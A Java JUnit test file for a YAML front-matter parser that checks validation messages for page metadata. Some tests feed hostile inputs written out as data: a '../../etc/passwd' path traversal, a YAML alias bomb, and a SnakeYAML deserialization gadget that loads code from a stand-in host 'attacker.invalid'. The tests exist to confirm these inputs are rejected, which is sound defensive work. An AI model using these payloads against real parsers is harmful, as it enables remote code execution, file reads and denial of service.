package org.amicus.content;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicBoolean;
import org.amicus.diagnostic.Problem;
import org.amicus.diagnostic.Problems;
import org.junit.jupiter.api.Test;

class FrontMatterParserTest {

    private static final Path FILE = Path.of("content/en/the-case.md");
    /** Lines 2 and 3 of every page below; the keys under test start on line 4. */
    private static final String REQUIRED = "title: The case\ndescription: What the court decided\n";

    private final Problems problems = new Problems();

    /** Parses a page whose front matter is {@code yaml}: the opening fence is line 1, the YAML starts on line 2. */
    private Optional<FrontMatter> parse(String yaml) {
        FrontMatterSplitter.Split split = FrontMatterSplitter.split(FILE, "---\n" + yaml + "---\nBody\n", problems)
                .orElseThrow();
        return FrontMatterParser.parse(FILE, split, problems);
    }

    private List<String> reported() {
        return problems.sorted().stream().map(Problem::format).toList();
    }

    private Problem onlyProblem() {
        List<Problem> all = problems.sorted();
        assertEquals(1, all.size(), () -> "expected one problem, got " + all);
        return all.get(0);
    }

    @Test
    void everyKeyIsReadWithItsType() {
        FrontMatter fm = parse(REQUIRED + """
                date: 2024-12-20
                updated: 2025-01-10
                reviewed: "2025-01-15"
                slug: the-case
                translationKey: case
                draft: true
                weight: 3
                layout: wide
                tags: [cfaa, spyware]
                sources:
                  - Order of 20 December 2024
                aliases: [/old/]
                toc: false
                summary: Short
                image: figures/chart.png
                """).orElseThrow();

        assertEquals(new FrontMatter("The case", "What the court decided", LocalDate.of(2024, 12, 20),
                LocalDate.of(2025, 1, 10), LocalDate.of(2025, 1, 15), "the-case", "case", true, 3, "wide",
                List.of("cfaa", "spyware"), List.of("Order of 20 December 2024"), List.of("/old/"), false, "Short",
                "figures/chart.png", null, null, fm.lines()), fm);
        assertEquals(List.of(), reported());
    }

    @Test
    void eachKeyKeepsItsFileLine() {
        FrontMatter fm = parse(REQUIRED + "tags: [cfaa]\nslug: the-case\n").orElseThrow();

        assertEquals(Map.of("title", 2, "description", 3, "tags", 4, "slug", 5), fm.lines());
    }

    @Test
    void aKeyNotWrittenIsPlacedOnTheOpeningFence() {
        FrontMatter fm = parse(REQUIRED).orElseThrow();

        assertEquals(1, fm.lineOf("slug"));
    }

    @Test
    void optionalKeysLeftOutAreNull() {
        FrontMatter fm = parse(REQUIRED).orElseThrow();

        assertEquals(new FrontMatter("The case", "What the court decided", null, null, null, null, null, false,
                null, null, null, null, null, null, null, null, null, null, fm.lines()), fm);
    }

    @Test
    void missingTitleIsReportedOnTheOpeningFence() {
        Optional<FrontMatter> fm = parse("description: D\n");

        assertEquals(Optional.empty(), fm);
        assertEquals(List.of("error: content/en/the-case.md:1: `title` is missing from the front matter\n"
                + "  fix: add a line `title: The title of this page`"), reported());
    }

    @Test
    void missingDescriptionIsReportedOnTheOpeningFence() {
        Optional<FrontMatter> fm = parse("title: T\n");

        assertEquals(Optional.empty(), fm);
        assertEquals(List.of("error: content/en/the-case.md:1: `description` is missing from the front matter\n"
                + "  fix: add a line `description: One sentence that says what this page explains`"), reported());
    }

    @Test
    void emptyFrontMatterReportsBothRequiredKeys() {
        parse("");

        assertEquals(List.of("`description` is missing from the front matter",
                "`title` is missing from the front matter"),
                problems.sorted().stream().map(Problem::message).toList());
    }

    @Test
    void blankTitleIsReportedOnItsLine() {
        parse("title: \"  \"\ndescription: D\n");

        assertEquals(List.of("error: content/en/the-case.md:2: `title` is empty\n"
                + "  fix: write the title after the colon"), reported());
    }

    @Test
    void titleWithoutValueIsReportedAsEmpty() {
        parse("title:\ndescription: D\n");

        assertEquals(List.of("error: content/en/the-case.md:2: `title` must be text, not empty\n"
                + "  fix: write it as `title: Some text`"), reported());
    }

    @Test
    void dateThatIsNotADateIsReportedOnItsLine() {
        Optional<FrontMatter> fm = parse(REQUIRED + "date: tomorrow\n");

        assertEquals(Optional.empty(), fm);
        assertEquals(List.of("error: content/en/the-case.md:4: `date` must be a date written YYYY-MM-DD, not "
                + "`tomorrow`\n  fix: write it as `date: 2024-12-20`"), reported());
    }

    @Test
    void impossibleDateIsReportedOnItsLineSayingWhy() {
        parse(REQUIRED + "weight: 1\nreviewed: 2024-02-30\n");

        assertEquals(List.of("error: content/en/the-case.md:5: `reviewed` is 2024-02-30, which is not a date: "
                + "February 2024 has 29 days\n  fix: check the day and the month (YYYY-MM-DD)"), reported());
    }

    @Test
    void draftThatIsNotABooleanIsReportedOnItsLine() {
        parse(REQUIRED + "draft: maybe\n");

        assertEquals(List.of("error: content/en/the-case.md:4: `draft` must be true or false, not `maybe`\n"
                + "  fix: write it as `draft: true`"), reported());
    }

    @Test
    void quotedFalseIsTextNotABoolean() {
        parse(REQUIRED + "toc: \"false\"\n");

        assertEquals("`toc` must be true or false, not `false`", onlyProblem().message());
    }

    @Test
    void weightThatIsNotANumberIsReportedOnItsLine() {
        parse(REQUIRED + "weight: ten\n");

        assertEquals(List.of("error: content/en/the-case.md:4: `weight` must be a whole number, not `ten`\n"
                + "  fix: write it as `weight: 10`"), reported());
    }

    @Test
    void weightTooLargeForAnIntIsReported() {
        parse(REQUIRED + "weight: 99999999999\n");

        assertEquals("`weight` must be a whole number, not `99999999999`", onlyProblem().message());
    }

    @Test
    void tagsWrittenAsAMappingAreReportedOnTheirLine() {
        parse(REQUIRED + "tags:\n  cfaa: yes\n");

        assertEquals(List.of("error: content/en/the-case.md:4: `tags` must be a list of texts, not a set of "
                + "`key: value` lines\n  fix: write it as `tags: [one, two]`"), reported());
    }

    @Test
    void tagListWithANestedListIsReportedOnTheItemLine() {
        parse(REQUIRED + "tags:\n  - cfaa\n  - [a, b]\n");

        assertEquals(List.of("error: content/en/the-case.md:6: each item of `tags` must be a text, not a list\n"
                + "  fix: write the items as `- text` lines"), reported());
    }

    @Test
    void layoutThatIsAPathIsReportedOnItsLine() {
        Optional<FrontMatter> fm = parse(REQUIRED + "layout: ../../etc/passwd\n");

        assertEquals(Optional.empty(), fm);
        assertEquals(List.of("error: content/en/the-case.md:4: layout `../../etc/passwd` is not a template name\n"
                + "  fix: write the name of a file of templates/ without .ftlh, like `layout: page`"), reported());
    }

    @Test
    void singleTagIsReadAsAListOfOne() {
        FrontMatter fm = parse(REQUIRED + "tags: cfaa\n").orElseThrow();

        assertEquals(List.of("cfaa"), fm.tags());
    }

    @Test
    void misspelledKeyIsReportedWithASuggestion() {
        parse(REQUIRED + "titel: The case\n");

        assertEquals(List.of("error: content/en/the-case.md:4: unknown key `titel` in the front matter\n"
                + "  fix: did you mean `title`? Known keys: aliases, date, description, draft, image, layout, minorEdit, "
                + "reviewed, slug, sources, summary, tags, title, toc, translatedFrom, translationKey, updated, weight"), reported());
    }

    @Test
    void unknownKeyFarFromAnyKnownKeyHasNoSuggestion() {
        parse(REQUIRED + "colour: blue\n");

        assertEquals("Known keys: aliases, date, description, draft, image, layout, minorEdit, reviewed, slug, sources, "
                + "summary, tags, title, toc, translatedFrom, translationKey, updated, weight", onlyProblem().hint());
    }

    @Test
    void frontMatterThatIsAListIsReported() {
        parse("- title\n- description\n");

        assertEquals(List.of("error: content/en/the-case.md:2: the front matter must be a set of `key: value` lines, "
                + "not a list\n  fix: write one `key: value` per line, for example `title: The case`"), reported());
    }

    @Test
    void unclosedQuoteIsReportedWhereItOpens() {
        Optional<FrontMatter> fm = parse("title: \"The case\ndescription: D\n");

        assertEquals(Optional.empty(), fm);
        assertEquals("the double quote opened on this line is never closed", onlyProblem().message());
        assertEquals(2, onlyProblem().line());
    }

    @Test
    void unclosedQuoteIsReportedOnTheLineWhereTheQuoteOpens() {
        parse("title: T\ndescription: \"What the court decided\nweight: 1\n");

        assertEquals(3, onlyProblem().line());
    }

    @Test
    void tabIndentationIsReportedOnItsLine() {
        parse("title: T\n\tdescription: D\n");

        Problem problem = onlyProblem();
        assertEquals(3, problem.line());
        assertEquals("this line has a tab where YAML only allows spaces", problem.message());
        assertEquals("indent with spaces, not tabs", problem.hint());
    }

    @Test
    void unquotedColonInValueIsReportedOnItsLine() {
        parse("description: D\ntitle: Summary judgment: what it means\n");

        assertEquals(List.of("error: content/en/the-case.md:3: invalid YAML: mapping values are not allowed here\n"
                + "  fix: a value containing `: ` must be quoted, for example "
                + "`title: \"Summary judgment: what it means\"`"), reported());
    }

    @Test
    void duplicateKeyIsReportedOnItsSecondLine() {
        Optional<FrontMatter> fm = parse(REQUIRED + "weight: 1\ntitle: Another title\n");

        assertEquals(Optional.empty(), fm);
        assertEquals(List.of("error: content/en/the-case.md:5: `title` appears twice\n"
                + "  fix: keep one `title:` line and remove the other"), reported());
    }

    @Test
    void aliasBombIsRejectedWithAMessage() {
        StringBuilder yaml = new StringBuilder(REQUIRED + "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            String previous = "*" + (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [").append(String.join(",",
                    List.of(previous, previous, previous, previous, previous, previous, previous, previous, previous)))
                    .append("]\n");
        }

        Optional<FrontMatter> fm = assertTimeoutPreemptively(Duration.ofSeconds(10),
                () -> parse(yaml.toString()));

        assertEquals(Optional.empty(), fm);
        assertEquals(List.of("error: content/en/the-case.md:2: YAML rejected: Number of aliases for non-scalar nodes "
                + "exceeds the specified max=20\n  fix: keep YAML simple: no more than 20 aliases, 20 levels of "
                + "nesting, 2097152 characters"), reported());
    }

    @Test
    void javaUrlTagIsRejectedAndNeverConstructed() {
        Optional<FrontMatter> fm = parse("title: !!java.net.URL [\"http://example.org/\"]\ndescription: D\n");

        assertEquals(Optional.empty(), fm);
        assertEquals(List.of("error: content/en/the-case.md:2: invalid YAML: Global tag is not allowed: "
                + "tag:yaml.org,2002:java.net.URL\n  fix: check the YAML syntax on this line and the one before it "
                + "(quotes, colons, indentation)"), reported());
    }

    @Test
    void scriptEngineManagerTagIsRejectedOnItsLine() {
        parse(REQUIRED + "summary: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.invalid/\"]]]]\n");

        Problem problem = onlyProblem();
        assertEquals(4, problem.line());
        assertEquals("invalid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager",
                problem.message());
    }

    /** A class that would betray construction from a YAML tag. */
    public static final class Tripwire {
        static final AtomicBoolean CONSTRUCTED = new AtomicBoolean();

        public Tripwire() {
            CONSTRUCTED.set(true);
        }
    }

    @Test
    void classTagNeverInstantiatesTheClass() {
        parse(REQUIRED + "image: !!org.amicus.content.FrontMatterParserTest$Tripwire {}\n");

        assertFalse(Tripwire.CONSTRUCTED.get());
        assertTrue(problems.hasErrors());
    }

    @Test
    void translationInheritsNonWordFieldsFromItsSource() {
        FrontMatter source = parse(REQUIRED + """
                date: 2024-12-20
                updated: 2025-01-10
                reviewed: 2025-01-15
                weight: 3
                layout: wide
                tags: [cfaa]
                sources: [Order]
                toc: false
                image: figures/chart.png
                """).orElseThrow();
        FrontMatter translation = parse("title: L'affaire\ndescription: Ce que la juge a décidé\n").orElseThrow();

        FrontMatter inherited = translation.inheritFrom(source);

        assertEquals(new FrontMatter("L'affaire", "Ce que la juge a décidé", LocalDate.of(2024, 12, 20),
                LocalDate.of(2025, 1, 10), LocalDate.of(2025, 1, 15), null, null, false, 3, "wide", List.of("cfaa"),
                List.of("Order"), null, false, null, "figures/chart.png", null, null, translation.lines()), inherited);
    }

    @Test
    void translationKeepsItsWordsSlugAndAliases() {
        FrontMatter source = parse(REQUIRED + "slug: the-case\nsummary: Short\naliases: [/old/]\n"
                + "translationKey: case\ndraft: true\n").orElseThrow();
        FrontMatter translation = parse("title: L'affaire\ndescription: D\n").orElseThrow();

        FrontMatter inherited = translation.inheritFrom(source);

        assertEquals(List.of("L'affaire", "D"), List.of(inherited.title(), inherited.description()));
        assertEquals(Arrays.asList(null, null, null, null, false), Arrays.asList(
                inherited.slug(), inherited.summary(), inherited.aliases(), inherited.translationKey(),
                inherited.draft()));
    }

    @Test
    void translationValuesWinOverItsSource() {
        FrontMatter source = parse(REQUIRED + "date: 2024-12-20\nweight: 3\ntags: [cfaa]\n").orElseThrow();
        FrontMatter translation = parse("title: T\ndescription: D\ndate: 2024-12-21\nweight: 5\ntags: [loi]\n")
                .orElseThrow();

        FrontMatter inherited = translation.inheritFrom(source);

        assertEquals(List.of(LocalDate.of(2024, 12, 21), 5, List.of("loi")),
                List.of(inherited.date(), inherited.weight(), inherited.tags()));
    }
}
